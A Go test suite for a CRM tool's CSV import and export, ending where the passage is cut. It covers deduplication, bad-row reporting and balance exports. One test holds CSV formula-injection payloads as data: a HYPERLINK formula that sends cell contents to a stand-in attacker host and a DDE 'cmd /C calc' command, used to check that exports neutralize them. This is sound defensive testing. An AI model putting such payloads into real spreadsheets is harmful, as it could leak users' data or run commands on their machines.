package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/shopspring/decimal"

	"github.com/seamhq/seam/crm-service/internal/app"
	"github.com/seamhq/seam/crm-service/migrations"
	"github.com/seamhq/seam/platform/auth"
	"github.com/seamhq/seam/platform/boot"
	"github.com/seamhq/seam/platform/pg"
	"github.com/seamhq/seam/platform/pgtest"
	"github.com/seamhq/seam/platform/server"
	"github.com/seamhq/seam/platform/telemetry"
	crmv1 "github.com/seamhq/seam/proto/crm/v1"
	moneyv1 "github.com/seamhq/seam/proto/money/v1"
)

func TestMain(m *testing.M) { os.Exit(pgtest.Main(m)) }

const secret = "test-secret-for-crm-csv"

// crm is a CRM server on a fresh database, reached over TCP.
type crm struct {
	t    testing.TB
	addr string
	db   *pgxpool.Pool
	dir  string
}

func startCRM(t testing.TB) *crm {
	t.Helper()
	url := pgtest.NewDB(t, "crm", func(ctx context.Context, url string) error {
		pool, err := pg.Connect(ctx, pg.Config{URL: url, MaxConns: 2})
		if err != nil {
			return err
		}
		defer pool.Close()
		return pg.Migrate(ctx, pool, migrations.FS)
	})
	ctx, cancel := context.WithCancel(context.Background())
	cfg := app.Config{
		Server: server.Config{
			GRPCAddr: "127.0.0.1:0", HTTPAddr: "127.0.0.1:0",
			ShutdownTimeout: 2 * time.Second, MaxBodyBytes: 1 << 20, RateBurst: 1,
		},
		Telemetry: telemetry.Config{LogLevel: "error"},
		Auth:      boot.AuthConfig{Secret: secret},
		Database:  app.Database{URL: url, MaxConns: 4},
	}
	started := make(chan *server.Server, 1)
	done := make(chan error, 1)
	go func() { done <- app.Serve(ctx, cfg, io.Discard, func(s *server.Server) { started <- s }) }()
	var srv *server.Server
	select {
	case srv = <-started:
	case err := <-done:
		cancel()
		t.Fatalf("server did not start: %v", err)
	}
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil && !errors.Is(err, context.Canceled) {
			t.Errorf("server: %v", err)
		}
	})
	db, err := pg.Connect(context.Background(), pg.Config{URL: url, MaxConns: 2})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(db.Close)
	return &crm{t: t, addr: srv.GRPCAddr(), db: db, dir: t.TempDir()}
}

// file writes a file into the test's directory and returns its path.
func (c *crm) file(name, content string) string {
	c.t.Helper()
	p := filepath.Join(c.dir, name)
	if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
		c.t.Fatal(err)
	}
	return p
}

// run runs the tool with a sales token and returns its output and error.
func (c *crm) run(args ...string) (string, error) {
	c.t.Helper()
	tok, err := auth.Sign([]byte(secret), "importer", []auth.Role{auth.Sales}, time.Hour)
	if err != nil {
		c.t.Fatal(err)
	}
	env := map[string]string{"CRM_GRPC_ADDR": c.addr, "CRM_TOKEN": tok}
	var stdout, stderr bytes.Buffer
	err = run(context.Background(), args, func(k string) string { return env[k] }, &stdout, &stderr)
	return stdout.String(), err
}

func (c *crm) count(sql string, args ...any) int {
	c.t.Helper()
	var n int
	if err := c.db.QueryRow(context.Background(), sql, args...).Scan(&n); err != nil {
		c.t.Fatalf("%s: %v", sql, err)
	}
	return n
}

func wantContains(t *testing.T, out string, parts ...string) {
	t.Helper()
	for _, p := range parts {
		if !strings.Contains(out, p) {
			t.Errorf("output lacks %q:\n%s", p, out)
		}
	}
}

const accountsCSV = `name,website,industry,owner,billing_address.city,billing_address.country_code
Acme,https://www.acme.example,Tools,ana,Berlin,DE
Globex,globex.example,Energy,bo,,
"Initech, Inc.",initech.example,Software,ana,Austin,US
`

func TestImportTwiceChangesNothing(t *testing.T) {
	t.Parallel()
	c := startCRM(t)
	path := c.file("accounts.csv", accountsCSV)
	out, err := c.run("import", "accounts", path)
	if err != nil {
		t.Fatalf("first import: %v\n%s", err, out)
	}
	wantContains(t, out, "accounts: 3 rows: 3 created, 0 updated, 0 unchanged, 0 bad")
	events := c.count(`SELECT count(*) FROM outbox_events`)

	out, err = c.run("import", "-mode", "skip-bad-rows", "accounts", path)
	if err != nil {
		t.Fatalf("second import: %v\n%s", err, out)
	}
	wantContains(t, out, "accounts: 3 rows: 0 created, 0 updated, 3 unchanged, 0 bad")
	if n := c.count(`SELECT count(*) FROM accounts WHERE version = 1`); n != 3 {
		t.Errorf("%d accounts at version 1, want 3", n)
	}
	if n := c.count(`SELECT count(*) FROM outbox_events`); n != events || n != 3 {
		t.Errorf("events: %d after the first import, %d after the second; want 3 and 3", events, n)
	}
	if n := c.count(`SELECT count(*) FROM audit_entries`); n != 0 {
		t.Errorf("%d audit entries, want 0", n)
	}
	if n := c.count(`SELECT count(*) FROM accounts WHERE name = 'Initech, Inc.' AND billing_address->>'city' = 'Austin'`); n != 1 {
		t.Errorf("Initech not stored as given")
	}

	// A changed row updates its account, matched by the domain.
	path = c.file("changed.csv", "website,name,owner\nhttp://acme.example/about,Acme,cy\n")
	out, err = c.run("import", "accounts", path)
	if err != nil {
		t.Fatalf("changed import: %v\n%s", err, out)
	}
	wantContains(t, out, "1 updated")
	if n := c.count(`SELECT count(*) FROM accounts WHERE owner = 'cy' AND version = 2 AND industry = 'Tools'`); n != 1 {
		t.Errorf("acme not updated (or a column not in the file changed)")
	}
	if n := c.count(`SELECT count(*) FROM audit_entries WHERE field = 'owner' AND old_value = 'ana' AND new_value = 'cy' AND actor = 'importer'`); n != 1 {
		t.Errorf("no audit entry of the owner change")
	}
}

// Accounts with an id from another system import by it, with or without
// a website, and a repeated id in the file is a bad row.
func TestImportAccountsByExternalID(t *testing.T) {
	t.Parallel()
	c := startCRM(t)
	path := c.file("ext.csv", "external_id,name,website\nSAP-1,No Site GmbH,\nSAP-2,Acme,acme.example\n,Globex,globex.example\n")
	out, err := c.run("import", "accounts", path)
	if err != nil {
		t.Fatalf("first import: %v\n%s", err, out)
	}
	wantContains(t, out, "accounts: 3 rows: 3 created, 0 updated, 0 unchanged, 0 bad")
	out, err = c.run("import", "accounts", path)
	if err != nil {
		t.Fatalf("second import: %v\n%s", err, out)
	}
	wantContains(t, out, "accounts: 3 rows: 0 created, 0 updated, 3 unchanged, 0 bad")
	if n := c.count(`SELECT count(*) FROM accounts WHERE external_id = 'SAP-1' AND website = ''`); n != 1 {
		t.Errorf("the account without a website is not stored with its external_id")
	}
	out, err = c.run("import", "-mode", "skip-bad-rows", "accounts", c.file("dup.csv", "external_id,name\nSAP-7,A\nSAP-7,B\n"))
	if err != nil {
		t.Fatalf("repeated id: %v\n%s", err, out)
	}
	wantContains(t, out, `"SAP-7" matches the external_id of line 2`)
}

// Two accounts on one website domain: a row without an id matching both
// is a bad row naming them, and an export edited and imported again
// updates exactly the records it came from, by their ids.
func TestImportAccountsSharingADomain(t *testing.T) {
	t.Parallel()
	c := startCRM(t)
	if out, err := c.run("import", "accounts", c.file("a.csv", "name,website,billing_address.city,billing_address.country_code\nZeta Holding,zeta.example,Bern,CH\n")); err != nil {
		t.Fatalf("first account: %v\n%s", err, out)
	}
	if _, err := c.db.Exec(context.Background(), `INSERT INTO accounts (id, name, website, name_key, website_domain, version, create_time, update_time)
		VALUES ('01900000-0000-7000-8000-0000000000b2', 'Zeta Services', 'https://zeta.example/services', 'zeta services', 'zeta.example', 1, now(), now())`); err != nil {
		t.Fatal(err)
	}
	out, err := c.run("import", "accounts", c.file("b.csv", "name,website\nZeta Services AG,zeta.example\n"))
	if err == nil {
		t.Fatalf("the ambiguous row imported:\n%s", out)
	}
	wantContains(t, out, `line 2, column website: matches 2 accounts by the domain "zeta.example"`, "give the row the id of the account it means")
	if n := c.count(`SELECT count(*) FROM accounts WHERE name = 'Zeta Holding' AND billing_address->>'city' = 'Bern'`); n != 1 {
		t.Fatal("the first account changed")
	}

	exported := filepath.Join(c.dir, "export.csv")
	if out, err := c.run("export", "-o", exported, "accounts"); err != nil {
		t.Fatalf("export: %v\n%s", err, out)
	}
	raw, err := os.ReadFile(exported)
	if err != nil {
		t.Fatal(err)
	}
	edited := strings.Replace(string(raw), "Zeta Services,", "Zeta Services AG,", 1)
	out, err = c.run("import", "accounts", c.file("edited.csv", edited))
	if err != nil {
		t.Fatalf("import of the edited export: %v\n%s", err, out)
	}
	wantContains(t, out, "accounts: 2 rows: 0 created, 1 updated, 1 unchanged, 0 bad")
	if n := c.count(`SELECT count(*) FROM accounts WHERE id = '01900000-0000-7000-8000-0000000000b2' AND name = 'Zeta Services AG'`) +
		c.count(`SELECT count(*) FROM accounts WHERE name = 'Zeta Holding' AND billing_address->>'city' = 'Bern' AND version = 1`); n != 2 {
		t.Fatal("the edited export did not update exactly its records")
	}
	// An id the CRM does not know is a bad row.
	out, err = c.run("import", "accounts", c.file("gone.csv", "id,name\n01900000-0000-7000-8000-0000000000ff,Gone\n"))
	if err == nil {
		t.Fatalf("an unknown id imported:\n%s", out)
	}
	wantContains(t, out, `line 2, column id: account "01900000-0000-7000-8000-0000000000ff" not found`)
}

// Contacts with a partner's id import by it, with or without an email,
// a row whose email changed in the partner's system updates its contact,
// an export carries the column, and a repeated id in the file is a bad
// row.
func TestImportContactsByExternalID(t *testing.T) {
	t.Parallel()
	c := startCRM(t)
	path := c.file("ext.csv", "external_id,name,email\nP-1,No Mail,\nP-2,Ana Ruiz,ana@example.com\n,Bo Chen,bo@example.com\n")
	out, err := c.run("import", "contacts", path)
	if err != nil {
		t.Fatalf("first import: %v\n%s", err, out)
	}
	wantContains(t, out, "contacts: 3 rows: 3 created, 0 updated, 0 unchanged, 0 bad")
	out, err = c.run("import", "contacts", path)
	if err != nil {
		t.Fatalf("second import: %v\n%s", err, out)
	}
	wantContains(t, out, "contacts: 3 rows: 0 created, 0 updated, 3 unchanged, 0 bad")
	out, err = c.run("import", "contacts", c.file("moved.csv", "external_id,name,email\n P-2 ,Ana Ruiz,ana.ruiz@example.org\n"))
	if err != nil {
		t.Fatalf("changed email: %v\n%s", err, out)
	}
	wantContains(t, out, "contacts: 1 rows: 0 created, 1 updated, 0 unchanged, 0 bad")
	if n := c.count(`SELECT count(*) FROM contacts WHERE external_id = 'P-2' AND email = 'ana.ruiz@example.org'`) +
		c.count(`SELECT count(*) FROM contacts`); n != 4 {
		t.Errorf("the changed email did not update the contact of P-2 (or made another)")
	}
	exported := filepath.Join(c.dir, "export.csv")
	if out, err := c.run("export", "-o", exported, "-filter", `external_id = "P-1"`, "contacts"); err != nil {
		t.Fatalf("export: %v\n%s", err, out)
	}
	raw, err := os.ReadFile(exported)
	if err != nil {
		t.Fatal(err)
	}
	if lines := strings.Split(strings.TrimSpace(string(raw)), "\n"); len(lines) != 2 || !strings.Contains(lines[0], "external_id") || !strings.Contains(lines[1], "P-1") {
		t.Errorf("export filtered by external_id:\n%s", raw)
	}
	out, err = c.run("import", "-mode", "skip-bad-rows", "contacts", c.file("dup.csv", "external_id,name\nP-7,A\nP-7,B\n"))
	if err != nil {
		t.Fatalf("repeated id: %v\n%s", err, out)
	}
	wantContains(t, out, `"P-7" matches the external_id of line 2`)
}

// Two contacts with one email: a row without an id matching both is a
// bad row naming them, and an export edited and imported again updates
// exactly the records it came from, by their ids.
func TestImportContactsSharingAnEmail(t *testing.T) {
	t.Parallel()
	c := startCRM(t)
	if out, err := c.run("import", "contacts", c.file("a.csv", "name,email,title\nAna Ruiz,ana@example.com,CEO\n")); err != nil {
		t.Fatalf("first contact: %v\n%s", err, out)
	}
	if _, err := c.db.Exec(context.Background(), `INSERT INTO contacts (id, name, email, email_key, version, create_time, update_time)
		VALUES ('01900000-0000-7000-8000-0000000000c2', 'Ana Assistant', 'Ana@Example.com', 'ana@example.com', 1, now(), now())`); err != nil {
		t.Fatal(err)
	}
	out, err := c.run("import", "contacts", c.file("b.csv", "name,email,title\nAna Ruiz,ana@example.com,CFO\n"))
	if err == nil {
		t.Fatalf("the ambiguous row imported:\n%s", out)
	}
	wantContains(t, out, `line 2, column email: matches 2 contacts by email`, "give the row the id of the contact it means")
	if n := c.count(`SELECT count(*) FROM contacts WHERE title = 'CEO'`); n != 1 {
		t.Fatal("the first contact changed")
	}

	exported := filepath.Join(c.dir, "export.csv")
	if out, err := c.run("export", "-o", exported, "contacts"); err != nil {
		t.Fatalf("export: %v\n%s", err, out)
	}
	raw, err := os.ReadFile(exported)
	if err != nil {
		t.Fatal(err)
	}
	edited := strings.Replace(string(raw), "Ana Assistant,", "Ana Ruiz Assistant,", 1)
	out, err = c.run("import", "contacts", c.file("edited.csv", edited))
	if err != nil {
		t.Fatalf("import of the edited export: %v\n%s", err, out)
	}
	wantContains(t, out, "contacts: 2 rows: 0 created, 1 updated, 1 unchanged, 0 bad")
	if n := c.count(`SELECT count(*) FROM contacts WHERE id = '01900000-0000-7000-8000-0000000000c2' AND name = 'Ana Ruiz Assistant'`) +
		c.count(`SELECT count(*) FROM contacts WHERE name = 'Ana Ruiz' AND title = 'CEO' AND version = 1`); n != 2 {
		t.Fatal("the edited export did not update exactly its records")
	}
	out, err = c.run("import", "leads", c.file("gone.csv", "id,name,email\n01900000-0000-7000-8000-0000000000ff,Gone,gone@example.com\n"))
	if err == nil {
		t.Fatalf("an unknown id imported:\n%s", out)
	}
	wantContains(t, out, `line 2, column id: lead "01900000-0000-7000-8000-0000000000ff" not found`)
}

const contactsCSV = `name,email,phone,title
Ana Ruiz,ana@example.com,+49 30 1234,CEO
Bo Chen,not-an-email,,CTO
Cy Park,cy@example.com,call me,
Dee Low,dee@example.com,,Buyer
Ana Again,ANA@example.com,,
`

func TestImportAllOrNothingWritesNothing(t *testing.T) {
	t.Parallel()
	c := startCRM(t)
	path := c.file("contacts.csv", contactsCSV)
	out, err := c.run("import", "contacts", path)
	if err == nil || !strings.Contains(err.Error(), "3 of 5 rows are bad; nothing was imported") {
		t.Fatalf("err = %v, want 3 bad rows\n%s", err, out)
	}
	wantContains(t, out,
		"line 3, column email: \"not-an-email\" is not a plain email address",
		"line 4, column phone: may hold only digits",
		"line 6, column email: \"ANA@example.com\" matches the email of line 2")
	if n := c.count(`SELECT count(*) FROM contacts`); n != 0 {
		t.Errorf("%d contacts written, want 0", n)
	}
}

func TestImportSkipBadRows(t *testing.T) {
	t.Parallel()
	c := startCRM(t)
	path := c.file("contacts.csv", contactsCSV)
	out, err := c.run("import", "-mode", "skip-bad-rows", "-batch", "2", "contacts", path)
	if err != nil {
		t.Fatalf("import: %v\n%s", err, out)
	}
	wantContains(t, out, "contacts: 5 rows: 2 created, 0 updated, 0 unchanged, 3 bad", "line 3, column email:")
	if n := c.count(`SELECT count(*) FROM contacts WHERE email IN ('ana@example.com', 'dee@example.com')`); n != 2 {
		t.Errorf("%d good contacts written, want 2", n)
	}
	if n := c.count(`SELECT count(*) FROM contacts`); n != 2 {
		t.Errorf("%d contacts, want 2", n)
	}
}

func TestImportRowsTheCRMRejects(t *testing.T) {
	t.Parallel()
	c := startCRM(t)
	// The account id is well formed but unknown: only the CRM can tell.
	path := c.file("contacts.csv", "name,email,account_id\nAna,ana@example.com,\nBo,bo@example.com,01900000-0000-7000-8000-000000000001\n")
	out, err := c.run("import", "contacts", path)
	if err == nil {
		t.Fatalf("import succeeded:\n%s", out)
	}
	wantContains(t, out, `line 3, column account_id: account "01900000-0000-7000-8000-000000000001" not found`)
	if n := c.count(`SELECT count(*) FROM contacts`); n != 0 {
		t.Errorf("%d contacts written, want 0", n)
	}
}

// A website that is no http or https URL is a bad row naming the column;
// a bare host is a website with https:// before it.
func TestImportAccountsBadWebsite(t *testing.T) {
	t.Parallel()
	c := startCRM(t)
	path := c.file("web.csv", "name,website\nAcme,acme.example\nHooli,ftp://hooli.example\nGlobex,www.globex .example\n")
	out, err := c.run("import", "-mode", "skip-bad-rows", "accounts", path)
	if err != nil {
		t.Fatalf("import: %v\n%s", err, out)
	}
	wantContains(t, out, "accounts: 3 rows: 1 created, 0 updated, 0 unchanged, 2 bad",
		`line 3, column website: must be an http or https URL with a host`, `line 4, column website: must not contain white space`)
	if n := c.count(`SELECT count(*) FROM accounts WHERE website = 'https://acme.example'`); n != 1 {
		t.Errorf("%d accounts at https://acme.example, want 1", n)
	}
}

// A write that fails after earlier batches were written (here a parent
// cycle between two rows, which the check pass cannot see, as it checks
// each batch alone) leaves those batches written: the tool says which
// lines are imported, and the fixed file runs again.
func TestImportFailureListsTheRowsWritten(t *testing.T) {
	t.Parallel()
	c := startCRM(t)
	if out, err := c.run("import", "accounts", c.file("base.csv", "name,website\nAlpha,alpha.example\nBeta,beta.example\nGamma,gamma.example\n")); err != nil {
		t.Fatalf("base import: %v\n%s", err, out)
	}
	id := func(website string) string {
		var id string
		if err := c.db.QueryRow(context.Background(), `SELECT id::text FROM accounts WHERE website = $1`, website).Scan(&id); err != nil {
			t.Fatal(err)
		}
		return id
	}
	alpha, beta := id("https://alpha.example"), id("https://beta.example")
	cycle := fmt.Sprintf("name,website,parent_account_id\nAlpha,alpha.example,%s\nGamma,gamma.example,%s\nBeta,beta.example,%s\n", beta, beta, alpha)
	path := c.file("cycle.csv", cycle)
	out, err := c.run("import", "-batch", "1", "-parallel", "1", "accounts", path)
	if err == nil {
		t.Fatalf("import of a cycle succeeded:\n%s", out)
	}
	wantContains(t, out, "imported before the import stopped (2 rows: 0 created, 2 updated, 0 unchanged): lines 2 to 3\n",
		"every other line was not imported")
	wantContains(t, err.Error(), "cycle.csv, line 4:", "own ancestor", "2 rows were imported before the import stopped")
	// What the tool says is what the CRM holds.
	if n := c.count(`SELECT count(*) FROM accounts WHERE parent_account_id = $1`, beta); n != 2 {
		t.Errorf("%d accounts below beta, want alpha and gamma", n)
	}
	if n := c.count(`SELECT count(*) FROM accounts WHERE id = $1 AND parent_account_id IS NULL`, beta); n != 1 {
		t.Errorf("beta got a parent")
	}

	// Fixed, the file runs again: the imported rows change nothing.
	fixed := strings.Replace(cycle, "beta.example,"+alpha, "beta.example,", 1)
	out, err = c.run("import", "-batch", "1", "accounts", c.file("fixed.csv", fixed))
	if err != nil {
		t.Fatalf("fixed import: %v\n%s", err, out)
	}
	wantContains(t, out, "accounts: 3 rows: 0 created, 0 updated, 3 unchanged, 0 bad")
}

func TestLineRanges(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		lines []int
		want  string
	}{
		{[]int{7}, "line 7"},
		{[]int{4, 2, 3}, "lines 2 to 4"},
		{[]int{2, 4, 5, 6, 9, 11, 12}, "lines 2, 4 to 6, 9, 11 to 12"},
	} {
		if got := lineRanges(tc.lines); got != tc.want {
			t.Errorf("lineRanges(%v) = %q, want %q", tc.lines, got, tc.want)
		}
	}
}

// An export with -bom starts with a byte order mark and imports again; so
// does a file with one before a quoted header.
func TestByteOrderMark(t *testing.T) {
	t.Parallel()
	c := startCRM(t)
	path := c.file("bom.csv", "\ufeff\"name\",\"website\",\"owner\"\n\"Ärzte AG\",\"aerzte.example\",\"ana\"\n")
	out, err := c.run("import", "accounts", path)
	if err != nil {
		t.Fatalf("import of a file with a byte order mark: %v\n%s", err, out)
	}
	wantContains(t, out, "accounts: 1 rows: 1 created")
	exported := filepath.Join(c.dir, "export.csv")
	if out, err := c.run("export", "-bom", "-o", exported, "accounts"); err != nil {
		t.Fatalf("export: %v\n%s", err, out)
	}
	raw, err := os.ReadFile(exported)
	if err != nil || !strings.HasPrefix(string(raw), "\ufeffid,name,") {
		t.Fatalf("export -bom: %v\n%q", err, raw)
	}
	out, err = c.run("import", "accounts", exported)
	if err != nil {
		t.Fatalf("import of the export: %v\n%s", err, out)
	}
	wantContains(t, out, "accounts: 1 rows: 0 created, 0 updated, 1 unchanged")
}

func TestImportHeaderErrors(t *testing.T) {
	t.Parallel()
	c := startCRM(t)
	for _, tc := range []struct{ kind, content, want string }{
		{"accounts", "name,website,colour\nA,a.example,red\n", "unknown columns colour"},
		{"accounts", "name,industry\nA,x\n", "missing required columns id or external_id or website"},
		{"leads", "name,email,email\n", "repeated columns email"},
		{"contacts", "name,title\nA,CEO\n", "missing required columns id or external_id or email"},
		{"contacts", "", "the file is empty"},
		{"opportunities", "name\n", `cannot import "opportunities"`},
	} {
		out, err := c.run("import", tc.kind, c.file("h.csv", tc.content))
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s %q: err = %v, want %q\n%s", tc.kind, tc.content, err, tc.want, out)
		}
	}
	if n := c.count(`SELECT count(*) FROM accounts`); n != 0 {
		t.Errorf("%d accounts written", n)
	}
}

func TestExportImportRoundTrip(t *testing.T) {
	t.Parallel()
	c := startCRM(t)
	var b strings.Builder
	b.WriteString("name,email,company,source,status,owner\n")
	for i := range 25 {
		fmt.Fprintf(&b, "Lead %d,lead%d@example.com,Co %d,%s,%s,%s\n", i, i, i, []string{"web", "event"}[i%2],
			[]string{"new", "LEAD_STATUS_WORKING", "Qualified"}[i%3], []string{"ana", "bo"}[i%2])
	}
	if out, err := c.run("import", "leads", c.file("leads.csv", b.String())); err != nil {
		t.Fatalf("import: %v\n%s", err, out)
	}
	// Exported in pages through the list's filter.
	exported := filepath.Join(c.dir, "export.csv")
	out, err := c.run("export", "-filter", `owner = "ana"`, "-o", exported, "leads")
	if err != nil {
		t.Fatalf("export: %v\n%s", err, out)
	}
	wantContains(t, out, "exported 13 leads")
	raw, err := os.ReadFile(exported)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(raw)), "\n")
	if len(lines) != 14 || !strings.HasPrefix(lines[0], "id,name,company,title,email,") || !strings.Contains(string(raw), "LEAD_STATUS_QUALIFIED") {
		t.Fatalf("export:\n%s", raw)
	}
	out, err = c.run("import", "leads", exported)
	if err != nil {
		t.Fatalf("import of the export: %v\n%s", err, out)
	}
	wantContains(t, out, "leads: 13 rows: 0 created, 0 updated, 13 unchanged, 0 bad")

	// An edited export updates what changed.
	edited := strings.Replace(string(raw), "Co 0,", "Co Zero,", 1)
	out, err = c.run("import", "leads", c.file("edited.csv", edited))
	if err != nil {
		t.Fatalf("import of the edited export: %v\n%s", err, out)
	}
	wantContains(t, out, "leads: 13 rows: 0 created, 1 updated, 12 unchanged, 0 bad")
	if n := c.count(`SELECT count(*) FROM leads WHERE company = 'Co Zero' AND version = 2`); n != 1 {
		t.Errorf("edited lead not updated")
	}

	// Accounts and contacts go round too; opportunities export.
	if out, err := c.run("import", "accounts", c.file("a.csv", accountsCSV)); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	for _, kind := range []string{"accounts", "contacts"} {
		p := filepath.Join(c.dir, kind+"-export.csv")
		if out, err := c.run("export", "-o", p, kind); err != nil {
			t.Fatalf("export %s: %v\n%s", kind, err, out)
		}
		out, err := c.run("import", kind, p)
		if err != nil {
			t.Fatalf("import %s: %v\n%s", kind, err, out)
		}
		if kind == "accounts" {
			wantContains(t, out, "accounts: 3 rows: 0 created, 0 updated, 3 unchanged")
		}
	}
	out, err = c.run("export", "opportunities")
	if err != nil || !strings.HasPrefix(out, "id,account_id,name,stage,") {
		t.Fatalf("export opportunities: %v\n%s", err, out)
	}
	// Every other list exports too, with its header even when empty.
	for kind, header := range map[string]string{
		"activities": "id,type,subject,", "cases": "id,", "campaigns": "id,name,", "products": "sku,name,",
	} {
		out, err := c.run("export", kind)
		if err != nil || !strings.HasPrefix(out, header) {
			t.Errorf("export %s: %v\n%s", kind, err, out)
		}
	}
	if _, err := c.run("export", "invoices"); err == nil || !strings.Contains(err.Error(), "accounts|account-balances|contacts") {
		t.Errorf("unknown kind: %v", err)
	}
	_, err = c.run("export", "-filter", `colour = "red"`, "accounts")
	if err == nil || !strings.Contains(err.Error(), "InvalidArgument") {
		t.Errorf("bad filter: %v", err)
	}
}

// A field a CRM user typed that a spreadsheet would run as a formula is
// exported after an apostrophe (text, to the spreadsheet), and the export
// imports back as unchanged.
func TestExportNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	c := startCRM(t)
	leads := "name,email,company,source,status,owner\n" +
		`"=HYPERLINK(""https://evil.example/?""&A2,""Details"")",f1@example.com,Co,web,new,ana` + "\n" +
		"@SUM(A1:A9),f2@example.com,+cmd|' /C calc'!A0,web,new,ana\n" +
		"-2+3,f3@example.com,Plain Co,web,new,ana\n"
	if out, err := c.run("import", "leads", c.file("formulas.csv", leads)); err != nil {
		t.Fatalf("import: %v\n%s", err, out)
	}
	exported := filepath.Join(c.dir, "formulas-export.csv")
	if out, err := c.run("export", "-o", exported, "leads"); err != nil {
		t.Fatalf("export: %v\n%s", err, out)
	}
	raw, err := os.ReadFile(exported)
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(strings.NewReader(string(raw))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range records[1:] {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("exported cell %q starts a formula", cell)
				}
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK(`, `'@SUM(A1:A9)`, `'+cmd|`, `'-2+3`} {
		if !strings.Contains(string(raw), want) {
			t.Errorf("export has no %s:\n%s", want, raw)
		}
	}
	out, err := c.run("import", "leads", exported)
	if err != nil {
		t.Fatalf("import of the export: %v\n%s", err, out)
	}
	wantContains(t, out, "leads: 3 rows: 0 created, 0 updated, 3 unchanged, 0 bad")
	if n := c.count(`SELECT count(*) FROM leads WHERE name = '@SUM(A1:A9)' AND company LIKE '+cmd%'`); n != 1 {
		t.Errorf("the formulas' text was not kept as typed")
	}
}

// An accounts export carries every currency's balances and credit, not
// only those of the currency that decides the payment status, and still
// imports as unchanged; account-balances has a row per account and
// currency whose amounts sum per currency to what the accounts owe.
func TestExportAccountBalances(t *testing.T) {
	t.Parallel()
	c := startCRM(t)
	if out, err := c.run("import", "accounts", c.file("a.csv", accountsCSV)); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	var acme, globex string
	if err := c.db.QueryRow(context.Background(), `SELECT
		(SELECT id::text FROM accounts WHERE name = 'Acme'), (SELECT id::text FROM accounts WHERE name = 'Globex')`).Scan(&acme, &globex); err != nil {
		t.Fatal(err)
	}
	// The balances as the bridge reports them from the ERP.
	tok, err := auth.Sign([]byte(secret), "bridge", []auth.Role{auth.Integration}, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := (&conn{addr: c.addr, token: tok}).dial(func(string) string { return "" })
	if err != nil {
		t.Fatal(err)
	}
	defer cc.Close()
	money := func(cur, amount string) *moneyv1.Money { return &moneyv1.Money{CurrencyCode: cur, Amount: amount} }
	balance := func(cur, open, overdue, credit string) *crmv1.AccountBalanceUpdate {
		return &crmv1.AccountBalanceUpdate{CurrencyCode: cur, OpenBalance: money(cur, open), OverdueBalance: money(cur, overdue),
			Credit: money(cur, credit), SourceVersion: 1}
	}
	sync := crmv1.NewSyncServiceClient(cc)
	for id, bs := range map[string][]*crmv1.AccountBalanceUpdate{
		acme:   {balance("EUR", "120", "20", "0"), balance("USD", "300", "0", "0"), balance("GBP", "0", "0", "50")},
		globex: {balance("EUR", "80", "0", "10")},
	} {
		if _, err := sync.SetAccountPaymentStatus(context.Background(), &crmv1.SetAccountPaymentStatusRequest{AccountId: id, Balances: bs}); err != nil {
			t.Fatal(err)
		}
	}

	exported := filepath.Join(c.dir, "accounts.csv")
	if out, err := c.run("export", "-o", exported, "accounts"); err != nil {
		t.Fatalf("export: %v\n%s", err, out)
	}
	recs := readCSV(t, exported)
	col := slices.Index(recs[0], "balances")
	if col < 0 {
		t.Fatalf("accounts export has no balances column: %q", recs[0])
	}
	got := map[string]string{}
	for _, r := range recs[1:] {
		got[r[slices.Index(recs[0], "name")]] = r[col]
	}
	want := map[string]string{
		"Acme":          "EUR open 120.00 overdue 20.00 credit 0.00; USD open 300.00 overdue 0.00 credit 0.00; GBP open 0.00 overdue 0.00 credit 50.00",
		"Globex":        "EUR open 80.00 overdue 0.00 credit 10.00",
		"Initech, Inc.": "",
	}
	if !maps.Equal(got, want) {
		t.Errorf("balances column %q, want %q", got, want)
	}
	out, err := c.run("import", "accounts", exported)
	if err != nil {
		t.Fatalf("import of the export: %v\n%s", err, out)
	}
	wantContains(t, out, "accounts: 3 rows: 0 created, 0 updated, 3 unchanged")

	// One row per account and currency, summed per currency.
	perCurrency := filepath.Join(c.dir, "balances.csv")
	if out, err := c.run("export", "-o", perCurrency, "account-balances"); err != nil {
		t.Fatalf("export: %v\n%s", err, out)
	}
	recs = readCSV(t, perCurrency)
	if strings.Join(recs[0], ",") != "account_id,account_name,external_id,erp_customer_id,currency_code,payment_status,open_balance,overdue_balance,credit" {
		t.Fatalf("account-balances header %q", recs[0])
	}
	sums := map[string]decimal.Decimal{}
	for _, r := range recs[1:] {
		for i, what := range []string{"open", "overdue", "credit"} {
			sums[r[4]+" "+what] = sums[r[4]+" "+what].Add(decimal.RequireFromString(r[6+i]))
		}
	}
	if len(recs) != 5 {
		t.Errorf("account-balances has %d rows, want 4:\n%q", len(recs)-1, recs)
	}
	for k, v := range map[string]string{
		"EUR open": "200", "EUR overdue": "20", "EUR credit": "10", "USD open": "300", "GBP credit": "50", "GBP open": "0",
	} {
		if !sums[k].Equal(decimal.RequireFromString(v)) {
			t.Errorf("%s sums to %s, want %s", k, sums[k], v)
		}
	}
	if recs[1][0] != acme && recs[1][0] != globex {
		t.Errorf("row of account %q", recs[1][0])
	}
	if _, err := c.run("import", "account-balances", perCurrency); err == nil || !strings.Contains(err.Error(), "cannot import") {
		t.Errorf("import of account-balances: %v, want refused", err)
	}
}

// readCSV reads a whole CSV file.
func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	recs, err := csv.NewReader(f).ReadAll()
	if err != nil || len(recs) == 0 {
